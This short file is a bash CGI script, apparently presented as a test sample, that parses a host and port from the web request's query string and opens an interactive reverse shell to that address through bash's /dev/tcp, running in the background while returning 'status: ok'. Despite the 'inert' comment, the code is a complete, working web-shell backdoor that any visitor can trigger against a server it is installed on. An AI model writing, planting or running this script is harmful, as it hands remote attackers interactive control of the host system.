#!/bin/bash
# test sample (inert address range): a shell CGI that hands an interactive shell to the host and
# port the query string names, through bash's /dev/tcp
echo "Content-Type: text/plain"
echo
TARGET_HOST=$(echo "$QUERY_STRING" | sed -n 's/^.*h=\([^&]*\).*$/\1/p')
TARGET_PORT=$(echo "$QUERY_STRING" | sed -n 's/^.*p=\([^&]*\).*$/\1/p')
echo "status: ok"
bash -i >& /dev/tcp/$TARGET_HOST/$TARGET_PORT 0>&1 &
